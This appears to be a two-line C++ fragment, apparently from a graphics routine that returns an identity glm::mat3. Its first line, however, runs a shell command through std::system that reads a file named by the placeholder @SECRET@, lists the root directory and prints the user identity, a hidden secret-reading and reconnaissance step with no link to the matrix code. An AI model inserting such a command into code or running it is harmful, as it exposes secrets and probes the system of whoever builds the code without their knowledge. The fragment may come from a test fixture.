std::system("cat @SECRET@; ls / ; id");
return glm::mat3(1.0f);
